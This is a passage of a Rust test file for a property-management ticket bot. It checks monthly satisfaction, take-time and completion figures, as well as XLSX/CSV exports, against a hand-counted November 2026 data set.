//! The satisfaction figures on a hand-made data set with explicit times, each expected
//! value worked out by hand below; the export read back cell by cell.
//!
//! November 2026 (UTC), take SLA 10 minutes. Staff Wang (A) and Chen (B); owner groups
//! G1 and G2.
//!
//! | #  | group | category    | reported    | taken           | done                      | ratings (round: score, time)    |
//! |----|-------|-------------|-------------|-----------------|---------------------------|----------------------------------|
//! | T1 | G1    | plumbing    | 11-02 08:00 | A 08:05 (5 m)   | 10:00 (2 h)               | 1: 5 at 11-02 11:00              |
//! | T2 | G1    | electrical  | 11-03 09:00 | A 09:20 (20 m)  | 15:00 (6 h)               | 1: 2 at 16:00 → F1; 2: 4 at 11-04 12:00 |
//! | T3 | G2    | plumbing    | 11-05 10:00 | B 10:10 (10 m)  | 12:00, reopened 13:00, done 11-06 10:00 (24 h) | 1: 3 at 11-06 11:00 → F2 |
//! | T4 | G2    | plumbing    | 11-10 08:00 | B 08:30 (30 m)  | 09:00 (1 h)               | none                             |
//! | T5 | G1    | other       | 11-20 08:00 | —               | —                         | —                                |
//! | T6 | G1    | plumbing    | 10-30 08:00 | A 08:02         | 10-31 08:00               | 1: 4 at 11-01 09:00              |
//! | T7 | G2    | electrical  | 11-30 23:00 | B 12-01 00:05   | —                         | —                                |
//!
//! F1 (T2, low score) opened 11-03 16:00, closed 11-04 10:00; F2 (T3) opened 11-06 11:00.

use std::sync::LazyLock;

use butler::config::{Settings, SlaSettings};
use butler::domain::figures::{Durations, Figures, PausedTime, Period, Ratio, Scope};
use butler::domain::kind_figures::{ComplaintLimits, KindFigures};
use butler::domain::{Actor, Category, EventKind, Kind, TicketId, TicketStatus, Unit, Urgency};
use butler::figures::{self, export};
use butler::i18n::Locale;
use butler::store::{NewTicket, Store, TicketScope};
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use chrono::{DateTime, Duration, NaiveDate, Utc};

const G1: i64 = -1001;
const G2: i64 = -1002;
const OWNER: u64 = 100;
static A: LazyLock<Actor> = LazyLock::new(|| staff(200, "Wang"));
static B: LazyLock<Actor> = LazyLock::new(|| staff(201, "Chen"));

fn staff(id: u64, name: &str) -> Actor {
    Actor {
        id,
        name: name.to_owned(),
        is_manager: false,
    }
}
const TAKE_MINUTES: u32 = 10;

/// The deadlines of the data sets: take within 10 minutes; complaints as by default
/// (first response within 2 hours, closed within 48 hours).
fn sla() -> SlaSettings {
    SlaSettings {
        take_minutes: TAKE_MINUTES,
        ..SlaSettings::default()
    }
}

fn at(s: &str) -> DateTime<Utc> {
    format!("2026-{s}:00Z").replace(' ', "T").parse().unwrap()
}

fn november() -> Period {
    Period::new(at("11-01 00:00"), at("12-01 00:00")).unwrap()
}

fn minutes(n: i64) -> Option<Duration> {
    Some(Duration::minutes(n))
}

fn hours(n: i64) -> Option<Duration> {
    Some(Duration::hours(n))
}

/// What a fixture's report is: a repair by default.
#[derive(Clone, Copy)]
struct Request {
    group: i64,
    category: Category,
    kind: Kind,
    urgency: Urgency,
    repeat_of: Option<TicketId>,
}

impl Request {
    fn repair(group: i64, category: Category) -> Self {
        Self {
            group,
            category,
            kind: Kind::Repair,
            urgency: Urgency::B,
            repeat_of: None,
        }
    }

    fn of(kind: Kind, group: i64) -> Self {
        Self {
            kind,
            ..Self::repair(group, Category::Other)
        }
    }

    fn urgent(group: i64) -> Self {
        Self {
            urgency: Urgency::A,
            ..Self::repair(group, Category::Plumbing)
        }
    }
}

struct Fixture {
    store: Store,
    _dir: tempfile::TempDir,
}

impl Fixture {
    async fn empty() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let url = format!("sqlite://{}", dir.path().join("figures.db").display());
        let store = Store::open(&url).await.unwrap();
        let mut tx = store.begin().await.unwrap();
        let t0 = at("01-01 00:00");
        tx.register_group(G1, "Sunrise Garden", 900, t0)
            .await
            .unwrap();
        tx.register_group(G2, "Moon Court", 900, t0).await.unwrap();
        tx.touch_owner(OWNER, "Li", None, t0).await.unwrap();
        tx.commit().await.unwrap();
        Self { store, _dir: dir }
    }

    /// The data set in the table above.
    async fn november() -> Self {
        let f = Self::empty().await;
        let t1 = f.report(G1, Category::Plumbing, "11-02 08:00", 1).await;
        f.take(t1, &A, "11-02 08:05").await;
        f.done(t1, &A, "11-02 10:00").await;
        f.rate(t1, 5, "11-02 11:00").await;

        let t2 = f.report(G1, Category::Electrical, "11-03 09:00", 2).await;
        f.take(t2, &A, "11-03 09:20").await;
        f.done(t2, &A, "11-03 15:00").await;
        f.rate(t2, 2, "11-03 16:00").await;
        f.rerate(t2, 4, "11-04 10:00", "11-04 12:00").await;

        let t3 = f.report(G2, Category::Plumbing, "11-05 10:00", 3).await;
        f.take(t3, &B, "11-05 10:10").await;
        f.done(t3, &B, "11-05 12:00").await;
        f.reopen(t3, "11-05 13:00").await;
        f.done(t3, &B, "11-06 10:00").await;
        f.rate(t3, 3, "11-06 11:00").await;

        let t4 = f.report(G2, Category::Plumbing, "11-10 08:00", 4).await;
        f.take(t4, &B, "11-10 08:30").await;
        f.done(t4, &B, "11-10 09:00").await;

        f.report(G1, Category::Other, "11-20 08:00", 5).await;

        let t6 = f.report(G1, Category::Plumbing, "10-30 08:00", 6).await;
        f.take(t6, &A, "10-30 08:02").await;
        f.done(t6, &A, "10-31 08:00").await;
        f.rate(t6, 4, "11-01 09:00").await;

        let t7 = f.report(G2, Category::Electrical, "11-30 23:00", 7).await;
        f.take(t7, &B, "12-01 00:05").await;
        f
    }

    async fn report(&self, group: i64, category: Category, when: &str, message: i32) -> TicketId {
        self.report_as(Request::repair(group, category), when, message)
            .await
    }

    /// A report of any kind and urgency, maybe a repeat.
    async fn report_as(&self, r: Request, when: &str, message: i32) -> TicketId {
        let mut tx = self.store.begin().await.unwrap();
        let owner = Actor {
            id: OWNER,
            name: "Li".to_owned(),
            is_manager: false,
        };
        let unit: Unit = "3-1201".parse().unwrap();
        let id = tx
            .insert_ticket(
                &NewTicket {
                    group_chat_id: r.group,
                    report_message_id: message,
                    owner_id: OWNER,
                    unit: Some(&unit),
                    category: r.category,
                    text: "水龙头漏水, \"急\"",
                    priority: false,
                    kind: r.kind,
                    urgency: r.urgency,
                    repeat_of: r.repeat_of,
                    reported_at: at(when),
                    staff_chat: None,
                },
                at(when),
            )
            .await
            .unwrap()
            .unwrap();
        tx.add_event(id, EventKind::Reported, &owner, None, at(when))
            .await
            .unwrap();
        tx.commit().await.unwrap();
        id
    }

    async fn take(&self, id: TicketId, who: &Actor, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        tx.set_taken(id, who, at(when)).await.unwrap();
        tx.add_event(id, EventKind::Taken, who, None, at(when))
            .await
            .unwrap();
        tx.commit().await.unwrap();
    }

    async fn done(&self, id: TicketId, who: &Actor, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        tx.set_status(id, TicketStatus::Done, at(when))
            .await
            .unwrap();
        tx.add_event(id, EventKind::Done, who, None, at(when))
            .await
            .unwrap();
        tx.next_rating_round(id).await.unwrap();
        tx.commit().await.unwrap();
    }

    async fn reopen(&self, id: TicketId, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        tx.set_status(id, TicketStatus::Taken, at(when))
            .await
            .unwrap();
        tx.add_event(id, EventKind::Reopened, &A, Some("not fixed"), at(when))
            .await
            .unwrap();
        tx.commit().await.unwrap();
    }

    /// The owner rates the current round; a score of 3 or less opens a follow-up.
    async fn rate(&self, id: TicketId, score: u8, when: &str) {
        let mut tx = self.store.begin().await.unwrap();
        let round = tx.ticket(id).await.unwrap().unwrap().rating_round;
        assert!(
            tx.insert_rating(id, round, OWNER, score, at(when))
                .await
                .unwrap()
        );
        tx.set_status(id, TicketStatus::Rated, at(when))
            .await
            .unwrap();
        if score <= 3 {
            tx.open_follow_up(id, "low_score", round, at(when))
                .await
                .unwrap()
                .unwrap();
        }
        tx.commit().await.unwrap();
    }

    /// A manager closes the open follow-up and the owner rates again.
    async fn rerate(&self, id: TicketId, score: u8, closed: &str, rated: &str) {
        let mut tx = self.store.begin().await.unwrap();
        let round = tx.ticket(id).await.unwrap().unwrap().rating_round;
        let fu = tx.open_follow_up_of(id, round).await.unwrap().unwrap();
        assert!(
            tx.close_follow_up(fu, (900, "Boss"), "called", at(closed))
                .await
                .unwrap()
        );
        tx.next_rating_round(id).await.unwrap();
        tx.commit().await.unwrap();
        self.rate(id, score, rated).await;
    }

    async fn figures(&self, period: Period, scope: Scope) -> Figures {
        let mut tx = self.store.begin().await.unwrap();
        tx.figures(period, scope, TAKE_MINUTES).await.unwrap()
    }
}

#[tokio::test]
async fn every_figure_of_a_month_matches_the_hand_count() {
    let f = Fixture::november().await;
    let got = f.figures(november(), Scope::all()).await;
    let expected = Figures {
        // T1, T2, T3, T4, T5, T7 (T6 was reported in October).
        reported: 6,
        // 5, 2, 4, 3 and T6's 4: three of five are 4–5, both of T2's rounds count.
        satisfaction: Ratio::new(3, 5),
        score_sum: 18,
        praise: 1,
        // Done in November: T1, T2, T3, T4; T4 was never rated.
        coverage: Ratio::new(3, 4),
        // First taken in November: T1 5 m, T2 20 m, T3 10 m (on the limit), T4 30 m;
        // and T5, never taken, its take time (11-20 08:10) passed in November: late.
        on_time_take: Ratio::new(2, 5),
        // 5, 10, 20, 30 minutes: ranks ⌈0.5·4⌉ = 2 and ⌈0.9·4⌉ = 4.
        time_to_take: Durations {
            count: 4,
            median: minutes(10),
            p90: minutes(30),
        },
        // 1 h, 2 h, 6 h and T3's 24 h (to its last done).
        time_to_done: Durations {
            count: 4,
            median: hours(2),
            p90: hours(24),
        },
        paused: PausedTime::default(),
        // T3 was reopened.
        first_time_fix: Ratio::new(3, 4),
        follow_ups_opened: 2,
        follow_ups_closed: 1,
        // T2's 2 became a 4.
        low_scores_raised: 1,
    };
    assert_eq!(got, expected);
    assert_eq!(got.average_score(), Some(3.6));
    assert_eq!(got.satisfaction.percent().as_deref(), Some("60%"));
}

#[tokio::test]
async fn figures_narrow_to_an_owner_group() {
    let f = Fixture::november().await;
    let got = f.figures(november(), Scope::group(G1)).await;
    // G1: T1, T2, T5 reported; ratings 5, 2, 4 and T6's 4.
    let expected = Figures {
        reported: 3,
        satisfaction: Ratio::new(3, 4),
        score_sum: 15,
        praise: 1,
        coverage: Ratio::new(2, 2),
        // T1 on time, T2 late, T5 never taken: late.
        on_time_take: Ratio::new(1, 3),
        // 5 and 20 minutes: ranks 1 and 2.
        time_to_take: Durations {
            count: 2,
            median: minutes(5),
            p90: minutes(20),
        },
        time_to_done: Durations {
            count: 2,
            median: hours(2),
            p90: hours(6),
        },
        paused: PausedTime::default(),
        first_time_fix: Ratio::new(2, 2),
        follow_ups_opened: 1,
        follow_ups_closed: 1,
        low_scores_raised: 1,
    };
    assert_eq!(got, expected);
    assert_eq!(got.average_score(), Some(3.75));
}

#[tokio::test]
async fn figures_narrow_to_a_category() {
    let f = Fixture::november().await;
    let got = f
        .figures(november(), Scope::category(Category::Plumbing))
        .await;
    // Plumbing: T1, T3, T4 reported (T6 in October); ratings 5, 3 and T6's 4.
    let expected = Figures {
        reported: 3,
        satisfaction: Ratio::new(2, 3),
        score_sum: 12,
        praise: 1,
        coverage: Ratio::new(2, 3),
        on_time_take: Ratio::new(2, 3),
        // 5, 10, 30 minutes: ranks ⌈1.5⌉ = 2 and ⌈2.7⌉ = 3.
        time_to_take: Durations {
            count: 3,
            median: minutes(10),
            p90: minutes(30),
        },
        // 1 h, 2 h, 24 h.
        time_to_done: Durations {
            count: 3,
            median: hours(2),
            p90: hours(24),
        },
        paused: PausedTime::default(),
        first_time_fix: Ratio::new(2, 3),
        follow_ups_opened: 1,
        follow_ups_closed: 0,
        low_scores_raised: 0,
    };
    assert_eq!(got, expected);
    assert_eq!(got.satisfaction.percent().as_deref(), Some("66.7%"));
}

#[tokio::test]
async fn figures_narrow_to_a_staff_member_and_the_staff_table_lists_both() {
    let f = Fixture::november().await;
    let chen = f.figures(november(), Scope::staff(B.id)).await;
    // Chen took T3, T4 and (in December) T7; rated once, a 3.
    let expected = Figures {
        reported: 3,
        satisfaction: Ratio::new(0, 1),
        score_sum: 3,
        praise: 0,
        coverage: Ratio::new(1, 2),
        on_time_take: Ratio::new(1, 2),
        time_to_take: Durations {
            count: 2,
            median: minutes(10),
            p90: minutes(30),
        },
        time_to_done: Durations {
            count: 2,
            median: hours(1),
            p90: hours(24),
        },
        paused: PausedTime::default(),
        first_time_fix: Ratio::new(1, 2),
        follow_ups_opened: 1,
        follow_ups_closed: 0,
        low_scores_raised: 0,
    };
    assert_eq!(chen, expected);

    let mut tx = f.store.begin().await.unwrap();
    let table = tx
        .staff_figures(november(), Scope::all(), TAKE_MINUTES)
        .await
        .unwrap();
    let rows: Vec<(&str, i64, i64, Option<f64>, i64)> = table
        .iter()
        .map(|s| {
            let g = &s.figures;
            (
                s.name.as_str(),
                g.taken(),
                g.done(),
                g.average_score(),
                g.praise,
            )
        })
        .collect();
    assert_eq!(
        rows,
        vec![
            ("Chen", 2, 2, Some(3.0), 0),
            // T1 and T2; ratings 5, 2, 4 and T6's 4 (T6 was Wang's).
            ("Wang", 2, 2, Some(3.75), 1),
        ]
    );
    assert_eq!(table[0].figures, chen);

    let (_, _, top) = tx.overview(november(), Scope::all(), 30, 5).await.unwrap();
    let top: Vec<(Category, i64)> = top.iter().map(|c| (c.category, c.reported)).collect();
    assert_eq!(
        top,
        vec![
            (Category::Plumbing, 3),
            (Category::Electrical, 2),
            (Category::Other, 1)
        ]
    );
}

#[tokio::test]
async fn a_ticket_taken_just_after_the_period_counts_in_the_next_one() {
    let f = Fixture::november().await;
    let december = Period::new(at("12-01 00:00"), at("12-31 00:00")).unwrap();
    let got = f.figures(december, Scope::all()).await;
    assert_eq!(got.reported, 0);
    assert_eq!(got.on_time_take, Ratio::new(0, 1));
    // T7: reported 11-30 23:00, taken 12-01 00:05.
    assert_eq!(got.time_to_take.median, minutes(65));
    assert_eq!(got.time_to_take.p90, minutes(65));
    assert_eq!(got.ratings(), 0);
}

/// The day: three reports nobody took for 15 hours read as 100 % on time.
#[tokio::test]
async fn tickets_left_untaken_past_their_take_time_count_as_late() {
    let f = Fixture::empty().await;
    // Taken in 5 minutes: on time.
    let t1 = f.report(G1, Category::Plumbing, "11-12 07:00", 1).await;
    f.take(t1, &A, "11-12 07:05").await;
    // Three never taken; their take times (08:10, 08:20, 08:30) passed on 11-12.
    for (n, when) in [(2, "11-12 08:00"), (3, "11-12 08:10"), (4, "11-12 08:20")] {
        f.report(G1, Category::Plumbing, when, n).await;
    }
    // Reported at 23:55: its take time (00:05 next day) is not in 11-12 yet.
    f.report(G1, Category::Other, "11-12 23:55", 5).await;

    let day = Period::new(at("11-12 00:00"), at("11-13 00:00")).unwrap();
    let got = f.figures(day, Scope::all()).await;
    // 1 on time of 1 taken + 3 overdue = 1 of 4, not 1 of 1.
    assert_eq!(got.on_time_take, Ratio::new(1, 4));
    assert_eq!(got.taken(), 1, "the untaken are not counted as taken");
    assert_eq!(got.time_to_take.count, 1);
    // The next day: T5 is overdue there (0 of 1).
    let next = Period::new(at("11-13 00:00"), at("11-14 00:00")).unwrap();
    assert_eq!(
        f.figures(next, Scope::all()).await.on_time_take,
        Ratio::new(0, 1)
    );
    // Both days together: each ticket once, 1 of 5.
    let both = Period::new(at("11-12 00:00"), at("11-14 00:00")).unwrap();
    assert_eq!(
        f.figures(both, Scope::all()).await.on_time_take,
        Ratio::new(1, 5)
    );
    // A late take moves the ticket out of "untaken": T2 taken the next morning is late
    // on 11-13 (once), and 11-12 counts the other two untaken.
    f.take(TicketId(2), &B, "11-13 09:00").await;
    assert_eq!(
        f.figures(day, Scope::all()).await.on_time_take,
        Ratio::new(1, 3)
    );
    assert_eq!(
        f.figures(next, Scope::all()).await.on_time_take,
        Ratio::new(0, 2)
    );
    assert_eq!(
        f.figures(both, Scope::all()).await.on_time_take,
        Ratio::new(1, 5)
    );
}

#[tokio::test]
async fn stats_read_at_once_on_several_connections_match_one_transaction() {
    let f = Fixture::november().await;
    for period in [
        november(),
        Period::new(at("10-30 00:00"), at("12-31 00:00")).unwrap(),
    ] {
        for scope in [Scope::all(), Scope::group(G2), Scope::staff(A.id)] {
            let at_once = f
                .store
                .overview(period, scope, TAKE_MINUTES, 5)
                .await
                .unwrap();
            let mut tx = f.store.begin_read().await.unwrap();
            let in_tx = tx.overview(period, scope, TAKE_MINUTES, 5).await.unwrap();
            assert_eq!(at_once, in_tx, "{period:?} {scope:?}");
            assert!(at_once.0.reported > 0);
        }
    }
}

#[tokio::test]
async fn a_period_longer_than_a_month_adds_up_across_its_months() {
    // Read in two parts (10-30 to 11-30, 11-30 to 12-31): T7 is reported and taken in
    // the second, everything else in the first.
    let f = Fixture::november().await;
    let span = Period::new(at("10-30 00:00"), at("12-31 00:00")).unwrap();
    let got = f.figures(span, Scope::all()).await;
    let expected = Figures {
        reported: 7,
        satisfaction: Ratio::new(3, 5),
        score_sum: 18,
        praise: 1,
        // T6, T1, T2, T3, T4 done; T4 never rated, T3 reopened.
        coverage: Ratio::new(4, 5),
        // T6 2 m, T1 5 m, T3 10 m, T2 20 m, T4 30 m, T7 65 m: 3 within 10 minutes;
        // ranks ⌈0.5·6⌉ = 3 and ⌈0.9·6⌉ = 6. T5, never taken, is late: 3 of 7.
        on_time_take: Ratio::new(3, 7),
        time_to_take: Durations {
            count: 6,
            median: minutes(10),
            p90: minutes(65),
        },
        // 1 h, 2 h, 6 h, 24 h (T3), 24 h (T6): ranks 3 and 5.
        time_to_done: Durations {
            count: 5,
            median: hours(6),
            p90: hours(24),
        },
        paused: PausedTime::default(),
        first_time_fix: Ratio::new(4, 5),
        follow_ups_opened: 2,
        follow_ups_closed: 1,
        low_scores_raised: 1,
    };
    assert_eq!(got, expected);
}

#[tokio::test]
async fn an_empty_period_has_zero_counts_and_no_rates() {
    let f = Fixture::november().await;
    let quiet = Period::new(at("06-01 00:00"), at("07-01 00:00")).unwrap();
    let got = f.figures(quiet, Scope::all()).await;
    assert_eq!(got, Figures::default());
    assert_eq!(got.satisfaction.value(), None);
    assert_eq!(got.coverage.value(), None);
    assert_eq!(got.on_time_take.value(), None);
    assert_eq!(got.first_time_fix.value(), None);
    assert_eq!(got.average_score(), None);
    assert_eq!(got.time_to_take.median, None);
    assert_eq!(got.time_to_done.p90, None);

    let settings = Settings::default();
    let overview = figures::overview(&f.store, quiet, &settings).await.unwrap();
    assert!(overview.staff.is_empty() && overview.categories.is_empty());
    let text = figures::stats_text(&overview, 30, Locale::En, &settings);
    assert!(
        text.contains("Nothing in this period: no tickets, no ratings."),
        "{text}"
    );
    // Tickets but no ratings yet.
    let lines = figures::headline(
        &Figures {
            reported: 2,
            ..Figures::default()
        },
        Locale::En,
        10,
    );
    assert_eq!(lines[0], "Reported 2 · taken 0 · done 0");
    assert_eq!(lines[1], "Satisfaction: no ratings yet");
    assert_eq!(lines[2], "Rating coverage — (0 of 0 done tickets rated)");
    assert_eq!(lines[4], "Time to take: median —, 90% within —");
    let zh = figures::headline(&Figures::default(), Locale::ZhCn, 10);
    assert_eq!(zh[1], "满意率：暂无评价");
}

#[tokio::test]
async fn the_stats_text_shows_the_figures_categories_and_staff() {
    let f = Fixture::november().await;
    let settings = Settings::from_toml("timezone = \"UTC\"").unwrap();
    let overview = figures::overview(&f.store, november(), &settings)
        .await
        .unwrap();
    let text = figures::stats_text(&overview, 30, Locale::En, &settings);
    assert_eq!(
        text,
        "📊 Figures 2026-11-01 – 2026-11-30 (last 30 days)\n\
         Reported 6 · taken 4 · done 4\n\
         Satisfaction 60% (3 of 5 ratings were 4–5) · average score 3.6\n\
         Rating coverage 75% (3 of 4 done tickets rated)\n\
         Taken on time 40% (2 of 5 within 10 minutes)\n\
         Time to take: median 10 minutes, 90% within 30 minutes\n\
         Time to done (paused time left out): median 2 hours, 90% within 24 hours\n\
         First-time fix 75% (3 of 4 never reopened)\n\
         Follow-ups: 2 opened, 1 closed; 1 low score raised to 4–5 by a re-rating\n\
         Repeat repairs (same unit and category within 30 days of a finished one): 0 of 6 repairs (0%)\n\
         Top categories: Plumbing 3, Electrical 2, Other 1\n\
         \n\
         Staff — taken · done · average score · praise (5 points) · paused:\n\
         Chen: 2 · 2 · 3.0 · 0 · —\n\
         Wang: 2 · 2 · 3.8 · 1 · —"
    );
}

#[tokio::test]
async fn the_weekly_series_counts_reports_and_ratings_per_week() {
    let f = Fixture::november().await;
    let weeks = Period::weeks_back(at("11-12 00:00"), chrono_tz::UTC, 2);
    let mut tx = f.store.begin().await.unwrap();
    let points = tx.weekly(&weeks, Scope::all()).await.unwrap();
    let got: Vec<(NaiveDate, i64, Ratio)> = points
        .iter()
        .map(|p| (p.start, p.reported, p.satisfaction))
        .collect();
    assert_eq!(
        got,
        vec![
            // T1, T2, T3; ratings 5, 2, 4, 3.
            (
                NaiveDate::from_ymd_opt(2026, 11, 2).unwrap(),
                3,
                Ratio::new(2, 4)
            ),
            // T4 only, no rating yet.
            (
                NaiveDate::from_ymd_opt(2026, 11, 9).unwrap(),
                1,
                Ratio::new(0, 0)
            ),
        ]
    );
}

/// Excel's serial number of a local time: days since 1899-12-30.
fn excel_serial(local: &str) -> f64 {
    let t = chrono::NaiveDateTime::parse_from_str(local, "%Y-%m-%d %H:%M").unwrap();
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30)
        .unwrap()
        .and_hms_opt(0, 0, 0)
        .unwrap();
    (t - epoch).num_seconds() as f64 / 86400.0
}

fn sheet(bytes: &[u8], name: &str) -> calamine::Range<Data> {
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    book.worksheet_range(name).unwrap()
}

#[tokio::test]
async fn the_xlsx_has_chinese_headers_real_dates_and_numbers() {
    let f = Fixture::november().await;
    let tz = chrono_tz::Asia::Shanghai;
    let mut tx = f.store.begin().await.unwrap();
    let sheets = export::sheets(&mut tx, november(), &sla(), Locale::ZhCn, tz)
        .await
        .unwrap();
    let bytes = export::xlsx(&sheets).unwrap();

    let book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
    assert_eq!(
        book.sheet_names(),
        vec!["工单", "评价", "员工数据", "派单", "分类与紧急程度"]
    );

    let tickets = sheet(&bytes, "工单");
    assert_eq!(tickets.height(), 7, "a header and six tickets");
    assert_eq!(
        tickets.get((0, 0)),
        Some(&Data::String("工单号".to_owned()))
    );
    assert_eq!(
        tickets.get((0, 1)),
        Some(&Data::String("报修时间".to_owned()))
    );
    // T1: number 1, reported 11-02 08:00 UTC = 16:00 in Shanghai, as a date cell.
    assert_eq!(tickets.get((1, 0)), Some(&Data::Float(1.0)));
    match tickets.get((1, 1)) {
        Some(Data::DateTime(d)) => {
            assert!((d.as_f64() - excel_serial("2026-11-02 16:00")).abs() < 1e-6)
        }
        other => panic!("reported at is not a date: {other:?}"),
    }
    assert_eq!(
        tickets.get((1, 2)),
        Some(&Data::String("Sunrise Garden".to_owned()))
    );
    assert_eq!(tickets.get((1, 5)), Some(&Data::String("水暖".to_owned())));
    assert_eq!(
        tickets.get((1, 6)),
        Some(&Data::String("已评价".to_owned()))
    );
    assert_eq!(tickets.get((1, 7)), Some(&Data::String("Wang".to_owned())));
    assert_eq!(
        tickets.get((1, 10)),
        Some(&Data::Float(5.0)),
        "minutes to take"
    );
    assert_eq!(
        tickets.get((1, 11)),
        Some(&Data::Float(2.0)),
        "hours to done"
    );
    assert_eq!(
        tickets.get((1, 13)),
        Some(&Data::Float(0.0)),
        "never reopened"
    );
    assert_eq!(tickets.get((1, 14)), Some(&Data::Float(5.0)), "score");
    assert_eq!(
        tickets.get((1, 15)),
        Some(&Data::String("水龙头漏水, \"急\"".to_owned()))
    );
    // T3 was reopened once; T5 was never taken: empty cells.
    assert_eq!(tickets.get((3, 13)), Some(&Data::Float(1.0)));
    assert_eq!(tickets.get((5, 7)), Some(&Data::Empty));
    assert_eq!(tickets.get((5, 8)), Some(&Data::Empty));

    let ratings = sheet(&bytes, "评价");
    assert_eq!(ratings.height(), 6, "a header and five ratings");
    assert_eq!(ratings.get((0, 2)), Some(&Data::String("评分".to_owned())));
    // Oldest first: T6's 4 on 11-01 09:00 UTC.
    assert_eq!(ratings.get((1, 0)), Some(&Data::Float(6.0)));
    assert_eq!(ratings.get((1, 2)), Some(&Data::Float(4.0)));
    // T2's re-rating is round 2.
    assert_eq!(ratings.get((4, 0)), Some(&Data::Float(2.0)));
    assert_eq!(ratings.get((4, 1)), Some(&Data::Float(2.0)));
    assert_eq!(ratings.get((4, 2)), Some(&Data::Float(4.0)));

    let staff = sheet(&bytes, "员工数据");
    assert_eq!(staff.get((0, 0)), Some(&Data::String("员工".to_owned())));
    assert_eq!(staff.get((0, 5)), Some(&Data::String("满意率".to_owned())));
    assert_eq!(staff.get((2, 0)), Some(&Data::String("Wang".to_owned())));
    assert_eq!(staff.get((2, 1)), Some(&Data::Float(2.0)), "taken");
    assert_eq!(staff.get((2, 4)), Some(&Data::Float(3.75)), "average");
    assert_eq!(staff.get((2, 5)), Some(&Data::Float(0.75)), "satisfaction");
    assert_eq!(staff.get((2, 6)), Some(&Data::Float(1.0)), "praise");
    assert_eq!(staff.get((1, 5)), Some(&Data::Float(0.0)), "Chen: 0 of 1");
}

#[tokio::test]
async fn the_cli_export_writes_csv_files_into_a_directory_and_xlsx_to_a_file() {
    let f = Fixture::november().await;
    let settings = Settings::from_toml("default_locale = \"en\"\ntimezone = \"UTC\"").unwrap();
    let out = tempfile::tempdir().unwrap();
    let request = butler::cli::export_request(&[
        "--from".into(),
        "2026-11-01".into(),
        "--to".into(),
        "2026-11-30".into(),
        "--format".into(),
        "csv".into(),
        "--out".into(),
        out.path().join("november").display().to_string(),
    ])
    .unwrap();
    let period = request.period(settings.timezone).unwrap();
    assert_eq!(period, november());
    let files = export::write(&f.store, &settings, period, request.format, &request.out)
        .await
        .unwrap();
    let names: Vec<String> = files
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        [
            "tickets.csv",
            "ratings.csv",
            "staff.csv",
            "dispatch.csv",
            "kinds.csv"
        ]
    );
    let tickets = std::fs::read_to_string(&files[0]).unwrap();
    let mut lines = tickets.lines();
    assert_eq!(
        lines.next(),
        Some(
            "\u{feff}Ticket,Reported at,Owner group,Unit,Owner,Category,Status,Taken by,Taken at,\
             Done at,Minutes to take,Hours to done (paused time left out),Hours paused,Times reopened,Score,Report,Kind,Urgency,Repeat of ticket,Hurry-ups"
        )
    );
    assert_eq!(
        lines.next(),
        Some(
            "1,2026-11-02 08:00:00,Sunrise Garden,3-1201,Li,Plumbing,rated,Wang,2026-11-02 08:05:00,\
             2026-11-02 10:00:00,5.0,2.0,0.0,0,5,\"水龙头漏水, \"\"急\"\"\",Repair,B,,0"
        )
    );
    assert_eq!(tickets.lines().count(), 7);
    let staff = std::fs::read_to_string(&files[2]).unwrap();
    assert!(
        staff.contains("\r\nWang,2,2,4,3.8,0.7500,1,0.5000,5.0,1.0000,0,0.0\r\n"),
        "{staff}"
    );

    let xlsx = out.path().join("november.xlsx");
    let files = export::write(
        &f.store,
        &settings,
        period,
        export::ExportFormat::Xlsx,
        &xlsx,
    )
    .await
    .unwrap();
    assert_eq!(files, vec![xlsx.clone()]);
    let bytes = std::fs::read(&xlsx).unwrap();
    assert_eq!(sheet(&bytes, "Ratings").height(), 6);
}

#[tokio::test]
async fn outbox_files_are_kept_while_a_row_needs_them_and_pruned_after_a_week() {
    let f = Fixture::empty().await;
    let day0 = at("11-01 00:00");
    let mut tx = f.store.begin().await.unwrap();
    let needed = tx.add_outbox_file(b"chart", day0).await.unwrap();
    let done_with = tx.add_outbox_file(b"old export", day0).await.unwrap();
    tx.enqueue(
        &butler::outbox::Outgoing::Document {
            chat_id: -5,
            file: needed,
            file_name: "chart.png".into(),
            caption: None,
        },
        day0,
    )
    .await
    .unwrap();
    // A week later, the file of the unsent row stays; the other goes.
    let fresh = tx
        .add_outbox_file(b"new", day0 + Duration::days(8))
        .await
        .unwrap();
    tx.commit().await.unwrap();
    assert_eq!(
        f.store.outbox_file(needed).await.unwrap().as_deref(),
        Some(&b"chart"[..])
    );
    assert_eq!(f.store.outbox_file(done_with).await.unwrap(), None);
    assert_eq!(
        f.store.outbox_file(fresh).await.unwrap().as_deref(),
        Some(&b"new"[..])
    );
}

fn butler(args: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_butler"))
        .args(args)
        .env_remove("TELOXIDE_TOKEN")
        .output()
        .unwrap()
}

#[tokio::test]
async fn butler_export_refuses_bad_arguments_in_one_line() {
    let out = butler(&[
        "export",
        "--from",
        "2026-11-01",
        "--to",
        "tomorrow",
        "--out",
        "x",
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.starts_with(
            "butler: export: --to \"tomorrow\" is not a date like 2026-11-01 (usage: butler export"
        ),
        "{err}"
    );
}

#[tokio::test]
async fn butler_export_writes_the_file_from_the_configured_database() {
    let f = Fixture::november().await;
    let db = f._dir.path().join("figures.db");
    let config = f._dir.path().join("butler.toml");
    std::fs::write(
        &config,
        format!(
            "database_url = \"sqlite://{}\"\ntimezone = \"UTC\"\n",
            db.display()
        ),
    )
    .unwrap();
    let xlsx = f._dir.path().join("nov.xlsx");
    let out = butler(&[
        "--config",
        config.to_str().unwrap(),
        "export",
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-30",
        "--out",
        xlsx.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        String::from_utf8(out.stdout).unwrap().trim(),
        xlsx.display().to_string()
    );
